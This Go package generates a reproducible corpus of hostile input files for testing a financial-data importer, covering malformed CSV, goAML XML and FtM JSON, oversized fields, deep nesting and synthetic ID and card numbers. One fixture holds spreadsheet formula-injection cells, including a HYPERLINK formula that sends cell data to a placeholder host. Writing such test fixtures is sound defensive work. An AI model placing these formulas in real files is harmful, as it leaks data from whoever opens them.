// Package hostile generates the hostile input corpus the importer tests run
// on (docs/SECURITY.md, "Hostile input files"). Every file is built by code
// from a fixed seed, so the corpus is reviewable and reproducible; no blob is
// kept in the repository. Write puts the whole corpus into a folder
// (testdata-style: hostile/NAME), the tests call the builders directly.
package hostile

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"casegraph/importers"
)

// IIN returns the n-th valid IIN of the corpus, a different one for every n
// (a man born in 1950–1999: the date walks with n/2000).
func IIN(n int) string {
	d := n / 2000
	day, month, year := 1+d%28, 1+(d/28)%12, 50+(d/(28*12))%50
	for k := range 5 {
		first11 := fmt.Sprintf("%02d%02d%02d3%04d", year, month, day, (n%2000)*5+k)
		if c, ok := importers.IINCheckDigit(first11); ok {
			return first11 + strconv.Itoa(c)
		}
	}
	panic("no IIN check digit in five tries")
}

// PAN returns the n-th Luhn-valid card number of the corpus.
func PAN(n int) string {
	partial := fmt.Sprintf("440043%09d", n)
	return partial + strconv.Itoa(importers.LuhnCheckDigit(partial))
}

// Garbage is size bytes of deterministic binary noise in lines of about 60
// bytes, without the quote, comma, blank or semicolon that would make a CSV
// reader fail or a sniffer see columns: the shape that passed for a bare
// address list (and flagged every "line" as a sanctioned wallet).
func Garbage(size int) []byte {
	r := rand.New(rand.NewPCG(1, 2))
	b := make([]byte, size)
	for i := range b {
		if i%61 == 60 {
			b[i] = '\n'
			continue
		}
		for {
			c := byte(r.UintN(256))
			if !strings.ContainsRune("\",\t\n; ", rune(c)) {
				b[i] = c
				break
			}
		}
	}
	return b
}

// Persons is a persons.csv of n rows with line ends eol.
func Persons(n int, eol string) []byte {
	var b bytes.Buffer
	b.WriteString("iin,name,birth_date" + eol)
	for i := range n {
		fmt.Fprintf(&b, "%s,Ахметов Жанболат %d,1985-03-12%s", IIN(i), i, eol)
	}
	return b.Bytes()
}

// Cards is a cards.csv of n rows with line ends eol.
func Cards(n int, eol string) []byte {
	var b bytes.Buffer
	b.WriteString("pan,holder_iin,bank" + eol)
	for i := range n {
		fmt.Fprintf(&b, "%s,%s,Kaspi Bank%s", PAN(i), IIN(i), eol)
	}
	return b.Bytes()
}

// Exchanges is an exchanges.csv of n rows with line ends eol.
func Exchanges(n int, eol string) []byte {
	var b bytes.Buffer
	b.WriteString("exchange_id,name,domain" + eol)
	for i := range n {
		fmt.Fprintf(&b, "EX-%04d,ТенгеОбмен %d,x%d.kz%s", i, i, i, eol)
	}
	return b.Bytes()
}

// DoubleBOM is a persons file that starts with two byte-order marks.
func DoubleBOM() []byte { return append([]byte("\ufeff\ufeff"), Persons(20, "\n")...) }

// DuplicateColumn is a persons file whose header names "name" twice.
func DuplicateColumn() []byte {
	var b bytes.Buffer
	b.WriteString("iin,name,name\n")
	for i := range 20 {
		fmt.Fprintf(&b, "%s,Ахметов %d,Другой %d\n", IIN(i), i, i)
	}
	return b.Bytes()
}

// CP1251 encodes s (Cyrillic and ASCII) in Windows-1251.
func CP1251(s string) []byte {
	var b []byte
	for _, r := range s {
		switch {
		case r < 0x80:
			b = append(b, byte(r))
		case r >= 'А' && r <= 'я':
			b = append(b, byte(r-'А'+0xC0))
		case r == 'Ё':
			b = append(b, 0xA8)
		case r == 'ё':
			b = append(b, 0xB8)
		default:
			b = append(b, '?')
		}
	}
	return b
}

// PersonsCP1251 is Persons(n) saved in Windows-1251: every name is invalid
// UTF-8.
func PersonsCP1251(n int) []byte { return CP1251(string(Persons(n, "\n"))) }

// PersonsNUL is a persons file whose names hold a NUL byte.
func PersonsNUL(n int) []byte {
	return []byte(strings.ReplaceAll(string(Persons(n, "\n")), "Жанболат", "Жан\x00болат"))
}

// TxnHeader is the header of the transactions files below.
const TxnHeader = "tx_id,time,from,to,amount\n"

// Txn is one transactions.csv row.
func Txn(id, at string, from, to int, amount string) string {
	return fmt.Sprintf("%s,%s,card:%s,card:%s,%s\n", id, at, PAN(from), PAN(to), amount)
}

// ConflictingTxns gives T1 twice with different amounts (lines 2 and 3) and
// T2 twice identically (lines 4 and 5).
func ConflictingTxns() []byte {
	return []byte(TxnHeader +
		Txn("T1", "2025-03-15 10:00", 1, 2, "100") +
		Txn("T1", "2025-03-15 10:00", 1, 3, "999") +
		Txn("T2", "2025-03-15 11:00", 1, 2, "50") +
		Txn("T2", "2025-03-15 11:00", 1, 2, "50"))
}

// ConflictingExchanges names EX-1 twice with different names.
func ConflictingExchanges() []byte {
	return []byte("exchange_id,name\nEX-1,ТенгеОбмен\nEX-1,Other Name\n")
}

// FtMConflicting is FtM JSON lines: person p1 (an IIN) on line 1, p1 again
// with another name on line 2, payment pay1 on line 3, pay1 again with
// another amount on line 4, and p1 repeated exactly on line 5.
func FtMConflicting() []byte {
	p1 := `{"id":"p1","schema":"Person","properties":{"name":["Ivanov Ivan"],"idNumber":["` + IIN(1) + `"],"nationality":["kz"]}}`
	return []byte(p1 + "\n" +
		`{"id":"p1","schema":"Person","properties":{"name":["Petrov Petr"],"idNumber":["` + IIN(1) + `"],"nationality":["kz"]}}` + "\n" +
		FtMPayment("pay1", "100") + "\n" +
		FtMPayment("pay1", "999") + "\n" +
		p1 + "\n" +
		`{"id":"p2","schema":"Person","properties":{"name":["Second Person"],"idNumber":["` + IIN(2) + `"],"nationality":["kz"]}}` + "\n")
}

// FtMPayment is an FtM payment from p1 to p2 of amount KZT.
func FtMPayment(id, amount string) string {
	return `{"id":"` + id + `","schema":"Payment","properties":{"payer":["p1"],"beneficiary":["p2"],"amount":["` + amount +
		`"],"currency":["KZT"],"date":["2025-03-15"]}}`
}

// FtMPerson is one FtM person line keyed by IIN(n).
func FtMPerson(id string, n int, name string) string {
	return `{"id":"` + id + `","schema":"Person","properties":{"name":["` + name + `"],"idNumber":["` + IIN(n) + `"],"nationality":["kz"]}}` + "\n"
}

// GoAMLTxn is one goAML transaction element between two IBAN accounts.
func GoAMLTxn(number, amount string) string {
	return "<transaction><transactionnumber>" + number + "</transactionnumber>" +
		"<date_transaction>2025-03-15T10:00:00</date_transaction><transmode_code>K</transmode_code>" +
		"<amount_local>" + amount + "</amount_local>" +
		"<t_from_my_client><from_account><iban>KZ86125KZT5004100100</iban></from_account></t_from_my_client>" +
		"<t_to><to_account><iban>KZ75125KZT2069100100</iban></to_account></t_to></transaction>\n"
}

// GoAML is a goAML report of reporting entity 1 around the given elements.
func GoAML(body string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n<report><rentity_id>1</rentity_id>" +
		"<submission_code>E</submission_code><report_code>STR</report_code><currency_code_local>KZT</currency_code_local>\n" +
		body + "</report>\n")
}

// GoAMLConflicting is a goAML report with transaction 1 on line 3, 1
// again with another amount on line 4, and 1 repeated exactly on line 5.
func GoAMLConflicting() []byte {
	return GoAML(GoAMLTxn("1", "100") + GoAMLTxn("1", "999") + GoAMLTxn("1", "100"))
}

// FtMHostileFields is FtM JSON lines: a person whose name is Windows-1251
// (line 1), one with a NUL byte in a property (line 2), one whose id is
// size bytes (line 3), and a good one (line 4).
func FtMHostileFields(size int) []byte {
	return []byte(`{"id":"p1","schema":"Person","properties":{"name":["` + string(CP1251("Иванов Иван")) + `"]}}` + "\n" +
		`{"id":"p2","schema":"Person","properties":{"name":["Good Name"],"notes":["a\u0000b"]}}` + "\n" +
		`{"id":"` + strings.Repeat("9", size) + `","schema":"Person","properties":{"name":["Long Id"]}}` + "\n" +
		FtMPerson("p4", 4, "Fourth Person"))
}

// GoAMLHugeFields is a goAML report whose first transaction's account
// number, and second transaction's description, are size bytes, and whose
// third transaction is good (elements on lines 3, 4 and 5).
func GoAMLHugeFields(size int) []byte {
	big := strings.Repeat("9", size)
	return GoAML(strings.Replace(GoAMLTxn("1", "5"), "<iban>KZ86125KZT5004100100</iban>", "<account>"+big+"</account>", 1) +
		strings.Replace(GoAMLTxn("2", "5"), "<transmode_code>", "<transaction_description>"+big+"</transaction_description><transmode_code>", 1) +
		GoAMLTxn("3", "5"))
}

// MaxAmounts holds two transactions of the largest amount an int64 of minor
// units holds, into one card.
func MaxAmounts() []byte {
	return []byte(TxnHeader +
		Txn("M1", "2025-03-15 10:00", 1, 2, "92233720368547758.07") +
		Txn("M2", "2025-03-15 11:00", 3, 2, "92233720368547758.07"))
}

// FarDates holds transactions in years 9999 and 0000, and persons born then.
func FarDates() (txns, persons []byte) {
	txns = []byte(TxnHeader +
		Txn("D1", "9999-12-31 10:00", 1, 2, "100") +
		Txn("D2", "0000-01-01 10:00", 1, 2, "100"))
	persons = []byte("iin,name,birth_date\n" + IIN(1) + ",A,9999-12-31\n" + IIN(2) + ",B,0000-01-01\n")
	return txns, persons
}

// HugeKey is a transactions file whose second row's tx_id is size bytes,
// between two good rows.
func HugeKey(size int) []byte {
	return []byte(TxnHeader +
		Txn("K1", "2025-03-15 10:00", 1, 2, "100") +
		Txn(strings.Repeat("X", size), "2025-03-15 10:00", 1, 2, "100") +
		Txn("K3", "2025-03-15 10:00", 1, 2, "100"))
}

// Formulas is a transactions file whose rejected values are spreadsheet
// formulas.
func Formulas() []byte {
	return []byte(TxnHeader +
		"=HYPERLINK(\"http://x/?\"&A1),2025-03-15 10:00,card:" + PAN(1) + ",card:" + PAN(2) + ",=1+1\n" +
		"T2,2025-03-15 10:00,card:" + PAN(1) + ",@SUM(A1),100\n")
}

// GoAMLNested is a goAML report with depth unknown elements nested inside
// one another under <report>.
func GoAMLNested(depth int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><report><rentity_id>1</rentity_id>`)
	for range depth {
		b.WriteString("<x>")
	}
	for range depth {
		b.WriteString("</x>")
	}
	b.WriteString("</report>\n")
	return b.Bytes()
}

// GoAMLWide is a goAML report with n unknown elements, each nested ten
// deep: the shape a linear parser reads in time proportional to n.
func GoAMLWide(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><report><rentity_id>1</rentity_id>`)
	for range n / 10 {
		for range 10 {
			b.WriteString("<x>")
		}
		for range 10 {
			b.WriteString("</x>")
		}
		b.WriteByte('\n')
	}
	b.WriteString("</report>\n")
	return b.Bytes()
}

// FtMManyValues is one FtM Person with n values in one property.
func FtMManyValues(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"id":"p1","schema":"Person","properties":{"name":["Big"],"alias":[`)
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"alias %d"`, i)
	}
	b.WriteString("]}}\n")
	return b.Bytes()
}

// FtMLongName is one FtM Person whose name is size bytes.
func FtMLongName(size int) []byte {
	return []byte(`{"id":"p1","schema":"Person","properties":{"name":["` + strings.Repeat("a", size) + `"]}}` + "\n" +
		`{"id":"p2","schema":"Person","properties":{"name":["Short Name"]}}` + "\n")
}

// Files is the corpus as file name → content.
func Files() map[string][]byte {
	txns, persons := FarDates()
	return map[string][]byte{
		"garbage.csv":               Garbage(64 << 10),
		"double_bom.csv":            DoubleBOM(),
		"duplicate_column.csv":      DuplicateColumn(),
		"persons_cr.csv":            Persons(200, "\r"),
		"cards_cr.csv":              Cards(200, "\r"),
		"exchanges_cr.csv":          Exchanges(40, "\r"),
		"persons_cp1251.csv":        PersonsCP1251(200),
		"persons_nul.csv":           PersonsNUL(20),
		"transactions_conflict.csv": ConflictingTxns(),
		"exchanges_conflict.csv":    ConflictingExchanges(),
		"transactions_max.csv":      MaxAmounts(),
		"transactions_dates.csv":    txns,
		"persons_dates.csv":         persons,
		"transactions_hugekey.csv":  HugeKey(70000),
		"transactions_formulas.csv": Formulas(),
		"goaml_nested.xml":          GoAMLNested(2000),
		"ftm_many_values.json":      FtMManyValues(2000),
		"ftm_long_name.json":        FtMLongName(8192),
		"ftm_conflict.json":         FtMConflicting(),
		"goaml_conflict.xml":        GoAMLConflicting(),
		"ftm_hostile_fields.json":   FtMHostileFields(70000),
		"goaml_huge_fields.xml":     GoAMLHugeFields(70000),
	}
}

// Write writes the corpus into dir/hostile and returns that folder.
func Write(dir string) (string, error) {
	out := filepath.Join(dir, "hostile")
	if err := os.MkdirAll(out, 0o755); err != nil {
		return "", err
	}
	for name, b := range Files() {
		if err := os.WriteFile(filepath.Join(out, name), b, 0o644); err != nil {
			return "", err
		}
	}
	return out, nil
}
